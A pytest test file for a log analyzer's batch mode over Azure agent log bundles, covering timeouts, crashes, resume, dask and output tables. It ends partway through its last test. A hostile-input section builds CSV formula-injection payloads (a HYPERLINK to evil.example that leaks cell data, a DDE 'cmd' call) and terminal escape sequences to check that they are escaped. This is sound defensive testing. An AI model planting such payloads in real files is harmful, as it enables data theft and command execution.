"""Batch triage: input expansion, isolation (error/timeout/crash rows), incremental runs, resume,
the dask engine, and the fleet tables."""
from __future__ import annotations

import json
import re
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import importlib.util

import pytest

import loganalyzer
from loganalyzer import fleet as B

# pandas is imported inside the tests only: worker processes import this module for the
# injected analysis functions and must start fast.
pytestmark = pytest.mark.skipif(importlib.util.find_spec("pandas") is None
                                or importlib.util.find_spec("pyarrow") is None,
                                reason="pandas and pyarrow are needed for batch mode")


class _LazyPandas:
    def __getattr__(self, name):
        import pandas
        return getattr(pandas, name)


pd = _LazyPandas()

AGENT_LINES = (
    "2024-05-01T10:00:00.000000Z INFO ExtHandler ExtHandler Azure Linux Agent (Goal State Agent version 2.11.1.12)\n"
    "2024-05-01T10:05:00.000000Z WARNING Daemon Daemon Agent WALinuxAgent-2.11.1.12 launched with command "
    "'python3 -u bin/WALinuxAgent-2.11.1.12-py3.8.egg -run-exthandlers' failed with return code: 1\n"
)
QUIET_LINES = "2024-05-01T10:00:00.000000Z INFO ExtHandler ExtHandler Azure Linux Agent (Goal State Agent version 2.9.1.1)\n"


def test_analyze(path, **options):
    """The fake analysis, except that a bundle named hang* sleeps and crash* kills its process."""
    name = Path(path).name
    if name.startswith("hang"):
        import tempfile
        fd, name = tempfile.mkstemp(prefix="spooled-copy-")  # what open_bundle spools: left by a kill
        os.write(fd, b"a copy of the bundle's logs")
        if name.startswith(tempfile.gettempdir()) and Path(path).parent.name == "killed":
            Path(path).with_suffix(".where").write_text(name)  # where it went (the test looks)
        time.sleep(120)
    if name.startswith("crash"):
        os._exit(7)
    return fake_analyze(path, **options)


test_analyze.__test__ = False  # not a pytest test


def fake_analyze(path, **options):
    """A deterministic stand-in (the pattern library changes while the project grows)."""
    from datetime import datetime, timezone

    from loganalyzer.ingest import InputError
    from loganalyzer.model import Facts, Finding, Report
    p = Path(path)
    if p.is_dir() and not (p / "var").is_dir():
        raise InputError(f"no known input in {p}")
    if p.suffix == ".zip":
        try:
            with zipfile.ZipFile(p) as zf:
                text = "".join(zf.read(n).decode() for n in zf.namelist())
        except zipfile.BadZipFile:
            raise InputError(f"{p.name}: not a zip archive") from None
    elif p.is_dir():
        text = "".join(f.read_text() for f in sorted(p.rglob("*")) if f.is_file())
    else:
        text = p.read_text()
    ts = datetime(2024, 5, 1, 10, 5, tzinfo=timezone.utc)
    findings = [Finding("agent-crash-loop", "error", 0.9, 1, ts, ts)] if "return code" in text else []
    return Report(bundle=str(path), findings=findings, facts=Facts(agent_goal_state_version="2.11.1.12"),
                  patterns_version="fake-1")


FAKE = {"analyze_fn": fake_analyze, "patterns_version": "fake-1"}


def write_bundle_dir(root: Path, text: str = AGENT_LINES) -> Path:
    (root / "var" / "log").mkdir(parents=True, exist_ok=True)
    (root / "var" / "log" / "waagent.log").write_text(text, encoding="utf-8")
    return root


def write_zip(path: Path, text: str = AGENT_LINES) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("var/log/waagent.log", text)
    return path


@pytest.fixture(scope="module")
def fleet_dir(tmp_path_factory) -> Path:
    """vm1.zip, vm2/ (folder bundle), vm3.log (bare log), quiet.log (no cause), corrupt.zip,
    notabundle/ (no known input), hang.log (fake analysis sleeps), crash.log (worker dies)."""
    d = tmp_path_factory.mktemp("fleet")
    write_zip(d / "vm1.zip")
    write_bundle_dir(d / "vm2")
    (d / "vm3.log").write_text(AGENT_LINES, encoding="utf-8")
    (d / "quiet.log").write_text(QUIET_LINES, encoding="utf-8")
    (d / "corrupt.zip").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 3)
    (d / "notabundle").mkdir()
    (d / "notabundle" / "README").write_text("nothing to see\n")
    (d / "hang.log").write_text(AGENT_LINES, encoding="utf-8")
    (d / "crash.log").write_text(AGENT_LINES, encoding="utf-8")
    (d / ".hidden").write_text("x")
    (d / "notes.md").write_text("not a bundle")
    return d


EXPECTED = {"vm1.zip": "ok", "vm2": "ok", "vm3.log": "ok", "quiet.log": "ok", "corrupt.zip": "error",
            "notabundle": "error", "hang.log": "timeout", "crash.log": "error", "vm3.log#dup": "duplicate"}


def run(fleet_dir: Path, out: Path, **kw):
    kw.setdefault("jobs", 2)
    kw.setdefault("timeout", 3)
    kw.setdefault("patterns_version", "fake-1")
    kw.setdefault("progress", "none")
    return B.execute([fleet_dir, fleet_dir / "vm3.log"], out, analyze_fn=test_analyze, **kw)


@pytest.fixture(scope="module")
def local_run(fleet_dir, tmp_path_factory):
    out = tmp_path_factory.mktemp("out-local")
    t0 = time.monotonic()
    fleet = run(fleet_dir, out)
    return fleet, out, time.monotonic() - t0


# --- expand_inputs ---------------------------------------------------------------------------
def test_expand_folder_of_bundles(fleet_dir):
    paths, problems = B.expand_inputs([fleet_dir])
    names = sorted(p.name for p in paths)
    assert names == sorted(["vm1.zip", "vm2", "vm3.log", "quiet.log", "corrupt.zip", "notabundle",
                            "hang.log", "crash.log"])
    assert problems == []
    assert all(p.is_absolute() for p in paths)


def test_expand_folder_that_is_one_bundle(tmp_path):
    b = write_bundle_dir(tmp_path / "bundle-123")
    (b / "etc").mkdir()
    paths, problems = B.expand_inputs([b])
    assert paths == [b.resolve()] and problems == []
    r = tmp_path / "collector"
    r.mkdir()
    (r / "results.txt").write_text("Starting log collection at 2024-05-01T10:00:00Z\n")
    (r / "waagent.log").write_text(AGENT_LINES)
    assert B.expand_inputs([r])[0] == [r.resolve()]


def test_expand_glob_list_file_duplicates_and_missing(tmp_path):
    for n in ("a.zip", "b.zip", "c.zip"):
        write_zip(tmp_path / n)
    lst = tmp_path / "bundles.txt"
    lst.write_text("# my bundles\n\na.zip\n  b.zip  \n" + str(tmp_path / "missing.zip") + "\n")
    paths, problems = B.expand_inputs([str(tmp_path / "*.zip"), lst, tmp_path / "a.zip",
                                       tmp_path / "a.zip", tmp_path / "nope", str(tmp_path / "*.tgz")])
    assert [p.name for p in paths] == ["a.zip", "b.zip", "c.zip"]
    by = {(Path(p.input).name, p.status): p for p in problems}
    dup = [p for p in problems if p.status == "duplicate"]
    assert len(dup) == 2 and {Path(p.path).name for p in dup} == {"a.zip", "b.zip"}  # once per path
    a_dup = next(p for p in dup if Path(p.path).name == "a.zip")
    assert "given 4 times" in a_dup.error
    assert ("missing.zip", "error") in by and "no such file" in by[("missing.zip", "error")].error
    assert ("nope", "error") in by
    assert by[("*.tgz", "error")].error == "no file matches this pattern"


def test_expand_log_file_is_not_a_list(tmp_path):
    log = tmp_path / "case011.txt"
    log.write_text(AGENT_LINES)
    assert B.expand_inputs([log])[0] == [log.resolve()]


def test_expand_empty_folder_and_excluded_output(tmp_path):
    (tmp_path / "empty").mkdir()
    paths, problems = B.expand_inputs([tmp_path / "empty"])
    assert paths == [] and problems[0].error == "no bundles in this folder"
    write_zip(tmp_path / "x.zip")
    (tmp_path / "out").mkdir()
    paths, _ = B.expand_inputs([tmp_path], exclude=[tmp_path / "out"])
    assert [p.name for p in paths] == ["empty", "x.zip"]


def test_expand_unreadable(tmp_path, monkeypatch):
    f = write_zip(tmp_path / "locked.zip")
    f.chmod(0)
    if os.geteuid() == 0:  # root reads everything: let the permission check see what a user would
        real_access = os.access
        monkeypatch.setattr(os, "access", lambda p, mode, **kw: False if str(p) == str(f) else real_access(p, mode, **kw))
    try:
        paths, problems = B.expand_inputs([f])
    finally:
        f.chmod(0o644)
    assert paths == [] and problems[0].status == "error" and "permission" in problems[0].error


def test_bundle_ids_disambiguate_by_parent(tmp_path):
    a, b = tmp_path / "vm1" / "logs.zip", tmp_path / "vm2" / "logs.zip"
    ids = B.bundle_ids([a, b, tmp_path / "x y.zip"])
    assert ids[a] == "vm1-logs.zip" and ids[b] == "vm2-logs.zip" and ids[tmp_path / "x y.zip"] == "x_y.zip"


def test_content_hash_of_folders(tmp_path):
    a = write_bundle_dir(tmp_path / "a")
    b = write_bundle_dir(tmp_path / "b")
    assert B.content_hash(a) == B.content_hash(b)
    (b / "var" / "log" / "waagent.log").write_text(AGENT_LINES + "x\n")
    assert B.content_hash(a)[0] != B.content_hash(b)[0]
    c = write_bundle_dir(tmp_path / "c")
    (c / "var" / "log" / "waagent.log").rename(c / "var" / "log" / "waagent.log.1")
    assert B.content_hash(a)[0] != B.content_hash(c)[0]


# --- one batch, every kind of row -----------------------------------------------------------
def test_rows_and_statuses(local_run):
    fleet, out, seconds = local_run
    rows = fleet.bundles.set_index("bundle")
    assert dict(rows["status"].astype(str)) == EXPECTED
    assert list(fleet.bundles.columns) == list(B.BUNDLE_COLUMNS)
    assert rows.loc["vm1.zip", "top_cause"] == "agent-crash-loop"
    assert rows.loc["vm1.zip", "agent_version"] == "2.11.1.12"
    assert rows.loc["vm1.zip", "top_severity"] == "error"
    assert rows.loc["vm1.zip", "finding_count"] == 1
    assert rows.loc["vm1.zip", "patterns_version"] == "fake-1"
    assert len(rows.loc["vm2", "content_hash"]) == 64
    assert rows.loc["quiet.log", "finding_count"] == 0 and pd.isna(rows.loc["quiet.log", "top_cause"])
    assert "no known input" in rows.loc["notabundle", "error"]
    assert rows.loc["corrupt.zip", "error"]
    assert "killed" in rows.loc["hang.log", "error"] and rows.loc["hang.log", "seconds"] >= 3
    assert "died" in rows.loc["crash.log", "error"] and "exit code 7" in rows.loc["crash.log", "error"]
    assert "vm3.log" in rows.loc["vm3.log#dup", "error"]
    assert fleet.exit_code == 1
    assert seconds < 25, "the hung worker must be killed at the timeout"


def test_output_files(local_run):
    fleet, out, _ = local_run
    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv", "state.jsonl"):
        assert (out / name).is_file()
    assert not list(out.glob(".*.tmp"))
    assert len(pd.read_csv(out / "bundles.csv")) == len(EXPECTED)
    back = pd.read_parquet(out / "bundles.parquet")
    assert str(back["analyzed_at"].dtype) == "datetime64[ns, UTC]"
    findings = pd.read_parquet(out / "findings.parquet")
    assert list(findings.columns) == list(B.FINDING_COLUMNS)
    assert sorted(findings["bundle"]) == ["vm1.zip", "vm2", "vm3.log"]
    assert set(findings["cause"].astype(str)) == {"agent-crash-loop"}
    assert str(findings["first_seen"].dtype) == "datetime64[ns, UTC]"
    reports = sorted(p.name for p in (out / "reports").iterdir())
    assert reports == ["quiet.log.json", "vm1.zip.json", "vm2.json", "vm3.log.json"]
    data = json.loads((out / "reports" / "vm1.zip.json").read_text())
    assert data["findings"][0]["cause"] == "agent-crash-loop"
    assert fleet.report("vm2")["findings"][0]["cause"] == "agent-crash-loop"


def test_dtypes_of_fleet_tables(local_run):
    fleet, _, _ = local_run
    b, f = fleet.bundles, fleet.findings
    assert list(b["status"].cat.categories) == ["ok", "error", "timeout", "duplicate"]
    assert b["top_severity"].cat.ordered and str(b["finding_count"].dtype) == "Int64"
    assert f["severity"].cat.ordered and str(f["count"].dtype) == "Int64"


def test_summary_text(local_run):
    text = local_run[0].summary()
    assert "Causes by number of bundles:" in text and "agent-crash-loop" in text
    assert "By agent version:" in text and "2.11.1.12" in text and "By extension:" in text
    assert "4 ok" in text and "1 timeout" in text and "1 duplicate" in text


# --- incremental, force, resume ---------------------------------------------------------------
def _small_fleet(tmp_path: Path) -> Path:
    d = tmp_path / "small"
    d.mkdir()
    write_zip(d / "a.zip")
    write_bundle_dir(d / "b")
    (d / "c.log").write_text(AGENT_LINES)
    (d / "d.log").write_text(QUIET_LINES)
    (d / "bad.zip").write_bytes(b"not a zip at all" * 10)
    return d


def test_incremental_skip_change_and_force(tmp_path):
    d, out = _small_fleet(tmp_path), tmp_path / "out"
    first = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert first.analysed == 5 and first.skipped == 0
    again = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert again.analysed == 0 and again.skipped == 5  # ok rows and the input error are reused
    cols = ["bundle", "status", "causes", "content_hash", "error"]
    pd.testing.assert_frame_equal(first.bundles[cols], again.bundles[cols])
    (d / "c.log").write_text(QUIET_LINES.replace("2.9.1.1", "2.9.1.2"))  # changed: analysed again
    changed = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert changed.analysed == 1
    assert changed.bundles.set_index("bundle").loc["c.log", "finding_count"] == 0
    (d / "e.log").write_text(QUIET_LINES)  # same bytes as d.log: its result is reused
    copied = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert copied.analysed == 0 and (out / "reports" / "e.log.json").is_file()
    (d / "e.log").unlink()
    forced = B.execute([d], out, jobs=2, timeout=30, force=True, progress="none", **FAKE)
    assert forced.analysed == 5 and forced.skipped == 0
    entries = [json.loads(x) for x in (out / "state.jsonl").read_text().splitlines()]
    assert len(entries) == len({e["key"] for e in entries}) == 6  # compacted: one line per path ever seen


def test_workers_start_ahead_only_when_bundles_are_new(tmp_path, monkeypatch):
    """Workers start (and load the patterns) while inputs are hashed, unless nothing is new."""
    d, out = _small_fleet(tmp_path), tmp_path / "out"
    started: list[int] = []
    real = B.LocalEngine.prestart
    monkeypatch.setattr(B.LocalEngine, "prestart", lambda self, n, task: (started.append(n), real(self, n, task)))
    first = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert started == [2] and first.analysed == 5 and (first.bundles["status"] == "ok").sum() == 4
    again = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert started == [2] and again.analysed == 0  # a re-run over the same bundles starts no worker
    (d / "f.log").write_text(AGENT_LINES + "one more line\n")  # bytes no bundle had
    one_new = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert started == [2, 1] and one_new.analysed == 1


@pytest.mark.parametrize("rerun", [False, True])
def test_a_bundle_that_cannot_be_hashed_is_an_unreadable_row(tmp_path, monkeypatch, rerun):
    """First runs hash beside the analysis, re-runs before it: the row is the same either way."""
    d, out = _small_fleet(tmp_path), tmp_path / "out"
    if rerun:
        B.execute([d / "a.zip"], out, jobs=1, timeout=30, progress="none", **FAKE)
    real = B.content_hash

    def failing(path):
        if Path(path).name == "c.log":
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(B, "content_hash", failing)
    fleet = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    rows = fleet.bundles.set_index("bundle")
    assert rows.loc["c.log", "status"] == "error" and rows.loc["c.log", "error"].startswith("cannot read")
    assert "Permission denied" in rows.loc["c.log", "error"]
    assert (rows["status"] == "ok").sum() == 3 and not (out / "reports" / "c.log.json").exists()
    assert rows.loc["d.log", "content_hash"] == real(d / "d.log")[0]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifos_devices_and_deep_folders_never_stop_a_batch(tmp_path):
    """Hashing never opens a FIFO or a device for reading, nor recurses without bound."""
    fleet = tmp_path / "fleet"
    fifo_bundle = write_bundle_dir(fleet / "with-fifo")
    os.mkfifo(fifo_bundle / "var/log/azure-fifo.log")  # nobody writes to it: open() would block
    (fleet / "zero.tar.gz").symlink_to("/dev/zero")  # reading would never end
    deep = sub = write_bundle_dir(fleet / "deep")
    try:
        for _ in range(1000):  # one level at a time (os.makedirs recurses)
            sub = sub / "d"
            sub.mkdir()
        code = """if 1:
            import sys; sys.path.insert(0, sys.argv[1])
            from loganalyzer import fleet as B
            f = B.execute(sys.argv[2:3], sys.argv[3], jobs=2, timeout=60, progress="none")
            print(f.bundles.set_index("bundle")[["status", "error"]].to_json(orient="index"))"""
        done = subprocess.run([sys.executable, "-c", code, str(Path(loganalyzer.__file__).parents[1]),
                               str(fleet), str(tmp_path / "out")], capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        rows = json.loads(done.stdout)
        assert rows["with-fifo"]["status"] == "ok" and rows["deep"]["status"] == "ok", rows
        assert rows["zero"]["status"] == "error" and "not a regular file" in rows["zero"]["error"]
        h1 = B.content_hash(fifo_bundle)
        assert h1 == B.content_hash(fifo_bundle) and h1[1] > 0
    finally:
        while sub != deep:  # bottom up: shutil.rmtree (and pytest's cleanup) would recurse too deep
            sub.rmdir()
            sub = sub.parent


def test_other_patterns_version_is_not_reused(tmp_path):
    d, out = _small_fleet(tmp_path), tmp_path / "out"
    B.execute([d], out, jobs=1, timeout=30, progress="none", **FAKE)
    again = B.execute([d], out, jobs=1, timeout=30, progress="none", analyze_fn=fake_analyze,
                      patterns_version="fake-2")
    assert again.analysed == 5


def test_resume_after_interruption(tmp_path):
    d, out = _small_fleet(tmp_path), tmp_path / "out"
    full = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    # an interrupted run: two finished bundles in the state, a line cut short, no tables
    lines = (out / "state.jsonl").read_text().splitlines()
    (out / "state.jsonl").write_text(lines[0] + "\n" + lines[1] + "\n" + lines[2][:40])
    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv"):
        (out / name).unlink()
    resumed = B.execute([d], out, jobs=2, timeout=30, progress="none", **FAKE)
    assert resumed.skipped == 2 and resumed.analysed == 3
    cols = ["bundle", "status", "causes", "finding_count"]
    pd.testing.assert_frame_equal(full.bundles[cols], resumed.bundles[cols])
    assert len(pd.read_parquet(out / "findings.parquet")) == len(full.findings)
    entries = [json.loads(x) for x in (out / "state.jsonl").read_text().splitlines()]
    assert sorted(e["key"] for e in entries) == sorted(B.state_key(str(p)) for p in B.expand_inputs([d])[0])


# --- run_batch: exit codes, progress, summary --------------------------------------------------
def test_run_batch_exit_codes_and_output(tmp_path, capsys):
    d = _small_fleet(tmp_path)
    (d / "bad.zip").unlink()
    assert B.run_batch([d], tmp_path / "o1", jobs=1, timeout=30, **FAKE) == 0
    captured = capsys.readouterr()
    assert "Causes by number of bundles:" in captured.out
    assert "[4/4]" in captured.err  # plain progress lines when stderr is not a terminal
    (d / "bad.zip").write_bytes(b"garbage" * 20)
    assert B.run_batch([d], tmp_path / "o1", jobs=1, timeout=30, **FAKE) == 1
    err = capsys.readouterr().err
    assert "unchanged" in err
    (tmp_path / "file").write_text("x")
    assert B.run_batch([d], tmp_path / "file", jobs=1) == 2
    assert B.run_batch([d], tmp_path / "o2", jobs=0) == 2
    assert B.run_batch([d], tmp_path / "o2", engine="spark") == 2
    assert B.run_batch([d], tmp_path / "o2", timeout=0) == 2
    assert B.run_batch([tmp_path / "nothing-here"], tmp_path / "o2") == 2
    assert "loganalyze: error:" in capsys.readouterr().err


def test_library_batch_function(tmp_path):
    d = _small_fleet(tmp_path)
    fleet = B.batch([d], jobs=2, timeout=30, analyze_fn=fake_analyze)
    assert isinstance(fleet, B.Fleet) and isinstance(fleet.bundles, pd.DataFrame)
    assert len(fleet.bundles) == 5 and len(fleet.failed) == 1 and fleet.out.is_dir()
    assert set(fleet.findings["bundle"]) == {"a.zip", "b", "c.log"}


def test_import_loganalyzer_does_not_import_pandas():
    code = "import sys, loganalyzer, loganalyzer.fleet; print('pandas' in sys.modules)"
    root = Path(__file__).resolve().parents[1]
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=root, timeout=60)
    assert res.stdout.strip() == "False", res.stderr


# --- dask ------------------------------------------------------------------------------------
def test_dask_local_cluster_gives_the_same_tables(fleet_dir, local_run, tmp_path):
    distributed = pytest.importorskip("distributed")
    import logging
    with distributed.LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None,
                                  silence_logs=logging.ERROR) as cluster:
        fleet = run(fleet_dir, tmp_path / "out", engine="dask", scheduler=cluster.scheduler_address)
    local = local_run[0]
    cols = ["bundle", "path", "content_hash", "status", "agent_version", "os", "top_cause", "top_severity",
            "causes", "finding_count", "patterns_version", "extensions"]
    key = "bundle"
    pd.testing.assert_frame_equal(local.bundles[cols].sort_values(key).reset_index(drop=True),
                                  fleet.bundles[cols].sort_values(key).reset_index(drop=True))
    fcols = [c for c in B.FINDING_COLUMNS]
    pd.testing.assert_frame_equal(local.findings[fcols].sort_values(key).reset_index(drop=True),
                                  fleet.findings[fcols].sort_values(key).reset_index(drop=True))
    errors = fleet.bundles.set_index("bundle")["error"]
    assert "killed" in errors["hang.log"] and "exit code 7" in errors["crash.log"]
    assert sorted(p.name for p in (tmp_path / "out" / "reports").iterdir()) == \
        ["quiet.log.json", "vm1.zip.json", "vm2.json", "vm3.log.json"]


# --- the real analysis ------------------------------------------------------------------------
def test_real_analysis_in_batch(tmp_path):
    d = tmp_path / "real"
    d.mkdir()
    write_zip(d / "vm1.zip")
    write_bundle_dir(d / "vm2")
    (d / "corrupt.zip").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 3)
    (d / "empty").mkdir()
    (d / "empty" / "README").write_text("nothing")
    fleet = B.execute([d], tmp_path / "out", jobs=2, timeout=120, progress="none")
    rows = fleet.bundles.set_index("bundle")
    assert dict(rows["status"].astype(str)) == {"vm1.zip": "ok", "vm2": "ok", "corrupt.zip": "error",
                                                "empty": "error"}
    assert rows.loc["vm1.zip", "agent_version"] == "2.11.1.12"
    assert "agent-crash-loop" in rows.loc["vm2", "causes"].split(",")
    from loganalyzer.patterns import load_library
    assert rows.loc["vm2", "patterns_version"] == load_library().version
    report = fleet.report("vm1.zip")
    assert report["summary"]["finding_count"] == rows.loc["vm1.zip", "finding_count"]


def test_docstring_names_every_table_column():
    doc = B.__doc__
    for col in list(B.BUNDLE_COLUMNS) + list(B.FINDING_COLUMNS):
        assert re.search(rf"\b{col}\b", doc), col


def test_one_run_at_a_time_per_output_folder(tmp_path):
    d = _small_fleet(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    held = B._lock(out)
    try:
        with pytest.raises(B.BatchError, match="another batch run"):
            B.execute([d], out, progress="none", **FAKE)
    finally:
        held.close()
    assert B.execute([d], out, jobs=1, progress="none", **FAKE).analysed == 5


# --- hostile reports: far times, values no column holds, formula text, partial bundles ----------
def hostile_analyze(path, **options):
    """Reports built by hand: far*/ stamped year 9999 and 0001, huge*/ a count beyond 64 bits,
    nofacts*/ a report summarise() cannot read, formula*/ spreadsheet formulas in its facts,
    partial*/ read only in part (Report.partial), oldpartial*/ partial told by a problem only."""
    from datetime import datetime, timezone

    from loganalyzer.model import Facts, Finding, ParseProblem, Report
    name = Path(path).name
    far_hi = datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc)
    far_lo = datetime(1, 6, 17, 4, 30, 17, tzinfo=timezone.utc)
    if name.startswith("far"):
        report = fake_analyze(path, **options)
        report.findings = [Finding("agent-crash-loop", "error", 0.9, 2, far_lo, far_hi)]
        report.facts.collection_time = far_hi
        return report
    if name.startswith("huge"):
        return Report(bundle=str(path), findings=[Finding("agent-crash-loop", "error", 0.9, 2 ** 70, None, None)],
                      patterns_version="fake-1")
    if name.startswith("nofacts"):
        return Report(bundle=str(path), facts=None, patterns_version="fake-1")
    if name.startswith("formula"):
        facts = Facts(agent_goal_state_version="-2+3", os_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
                      os_version="=1+1")
        facts.extension("@SUM(1)")
        facts.extension("Microsoft.Azure.RecoveryServices.VMSnapshotLinux")
        f = Finding("agent-crash-loop", "error", -0.25, 1, None, None, details={"ext": ["+cmd|' /C calc'!A0"]})
        return Report(bundle=str(path), findings=[f], facts=facts, patterns_version="fake-1")
    if name.startswith("escapes"):
        facts = Facts(agent_goal_state_version="2.9\x1b]0;pwned\x07", os_name="Ubuntu\u202e\n  forged row")
        facts.extension("Microsoft.X\x1b[2J\nBy extension:\n  fake 99")
        return Report(bundle=str(path), findings=[Finding("agent-crash-loop", "error", 0.9, 1, None, None)],
                      facts=facts, patterns_version="fake-1")
    if name.startswith("partial"):
        report = Report(bundle=str(path), patterns_version="fake-1")
        report.partial = True  # the lead's Report.partial / partial_reasons (set by hand before they land)
        report.partial_reasons = ["logs.zip: 299 members share their data with another member", "x: cut at 1 GiB"]
        return report
    if name.startswith("oldpartial"):
        report = Report(bundle=str(path), patterns_version="fake-1",
                        problems=[ParseProblem("logs.zip", "the size limit is reached (bundle is partial)",
                                               severity="error")])
        if hasattr(report, "partial"):  # the model has the field: it says so itself
            report.partial, report.partial_reasons = True, ["logs.zip: the size limit is reached"]
        return report
    return fake_analyze(path, **options)


def _hostile_fleet(tmp_path: Path, *names: str) -> Path:
    d = tmp_path / "hostile"
    d.mkdir()
    write_zip(d / "good1.zip")
    (d / "good2.log").write_text(QUIET_LINES)
    for n in names:
        write_bundle_dir(d / n, AGENT_LINES + n + "\n")  # distinct bytes: nothing is reused by hash
    return d


def test_far_dated_and_untabulable_bundles_are_rows_not_a_failed_batch(tmp_path):
    d = _hostile_fleet(tmp_path, "far9999", "huge", "nofacts")
    out = tmp_path / "out"
    fleet = B.execute([d], out, jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
                      patterns_version="fake-1")
    rows = fleet.bundles.set_index("bundle")
    assert dict(rows["status"].astype(str)) == {"good1.zip": "ok", "good2.log": "ok", "far9999": "ok",
                                                "huge": "error", "nofacts": "error"}
    assert rows.loc["good1.zip", "top_cause"] == "agent-crash-loop"
    assert "cannot tabulate" in rows.loc["huge", "error"] and "count" in rows.loc["huge", "error"]
    assert "\n" not in rows.loc["huge", "error"]
    assert rows.loc["nofacts", "error"].startswith("AttributeError")
    findings = fleet.findings.set_index("bundle")
    assert pd.isna(findings.loc["far9999", "first_seen"]) and pd.isna(findings.loc["far9999", "last_seen"])
    assert findings.loc["good1.zip", "first_seen"] == pd.Timestamp("2024-05-01T10:05:00Z")
    assert "huge" not in findings.index
    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv"):
        assert (out / name).is_file()
    assert len(pd.read_csv(out / "bundles.csv")) == 5
    assert fleet.report("far9999")["findings"][0]["last_seen"].startswith("9999-12-31")  # the JSON keeps it
    assert fleet.exit_code == 1
    again = B.execute([d], out, jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
                      patterns_version="fake-1")
    assert again.analysed == 2 and again.skipped == 3  # the error rows are tried again, the rest reused
    pd.testing.assert_frame_equal(fleet.findings, again.findings)


def test_a_bad_row_in_the_state_file_is_that_bundles_error_row(tmp_path):
    """Rows stored by an earlier run (any layout) are checked again when the tables are built."""
    d = _hostile_fleet(tmp_path)
    out = tmp_path / "out"
    B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
    entries = [json.loads(x) for x in (out / "state.jsonl").read_text().splitlines()]
    for e in entries:
        if e["row"]["bundle"] == "good1.zip":
            e["row"]["finding_count"] = "many"
            e["findings"][0]["first_seen"] = "0001-01-01T00:00:00Z"
    (out / "state.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries))
    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
    rows = fleet.bundles.set_index("bundle")
    assert rows.loc["good1.zip", "status"] == "error" and "finding_count" in rows.loc["good1.zip", "error"]
    assert rows.loc["good2.log", "status"] == "ok"


def test_real_analysis_of_far_dated_bundles(tmp_path):
    """Year 9999 and 0001 through the real analysis: the batch completes and writes every table."""
    d = tmp_path / "real"
    d.mkdir()
    write_zip(d / "good.zip")
    crash = AGENT_LINES.splitlines()[1].split(" ", 1)[1]
    write_bundle_dir(d / "y9999", f"9999-12-31T23:59:59.999999Z {crash}\n9999-12-31T23:59:59.999999Z {crash}\n")
    write_bundle_dir(d / "y0001", f"0001-01-01T00:00:00.000000Z {crash}\n0001-01-01T00:00:01.000000Z {crash}\n")
    out = tmp_path / "out"
    fleet = B.execute([d], out, jobs=2, timeout=120, progress="none")
    rows = fleet.bundles.set_index("bundle")
    assert sorted(rows.index) == ["good.zip", "y0001", "y9999"]
    assert rows.loc["good.zip", "status"] == "ok" and "agent-crash-loop" in rows.loc["good.zip", "causes"]
    for far in ("y0001", "y9999"):  # ok once the analyzer copes with the year; an error row before
        assert rows.loc[far, "status"] in ("ok", "error")
        if rows.loc[far, "status"] == "error":
            assert "\n" not in rows.loc[far, "error"]
    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv"):
        assert (out / name).is_file()
    f = fleet.findings
    assert f[f["bundle"].isin(["y0001", "y9999"])]["first_seen"].isna().all()


def test_csv_cells_that_are_formulas_are_escaped_but_the_tables_keep_them(tmp_path):
    d = _hostile_fleet(tmp_path, "formula")
    out = tmp_path / "out"
    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", analyze_fn=hostile_analyze,
                      patterns_version="fake-1")
    row = fleet.bundles.set_index("bundle").loc["formula"]
    assert row["os"] == '=HYPERLINK("http://evil.example/?"&A1,"click") =1+1'  # the DataFrame: true text
    assert row["extensions"].startswith("@SUM(1),") and row["agent_version"] == "-2+3"
    parquet = pd.read_parquet(out / "bundles.parquet").set_index("bundle").loc["formula"]
    assert parquet["os"] == row["os"]
    csv = pd.read_csv(out / "bundles.csv", dtype=str, keep_default_na=False).set_index("bundle").loc["formula"]
    assert csv["os"] == "'" + row["os"] and csv["extensions"] == "'" + row["extensions"]
    assert csv["agent_version"] == "'-2+3"
    fcsv = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False).set_index("bundle").loc["formula"]
    assert fcsv["extension"] == "'+cmd|' /C calc'!A0"
    assert fcsv["confidence"] == "-0.25" and fcsv["count"] == "1"  # numbers are not text: never escaped
    assert fleet.findings.set_index("bundle").loc["formula", "confidence"] == -0.25
    import csv as _csv
    for name in ("bundles.csv", "findings.csv"):
        with open(out / name, newline="", encoding="utf-8") as fh:
            for cells in _csv.reader(fh):
                for cell in cells:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+(e-?\d+)?", cell), (name, cell)


def test_partial_bundles_are_flagged(tmp_path):
    d = _hostile_fleet(tmp_path, "partial", "oldpartial")
    fleet = B.execute([d], tmp_path / "out", jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
                      patterns_version="fake-1")
    rows = fleet.bundles.set_index("bundle")
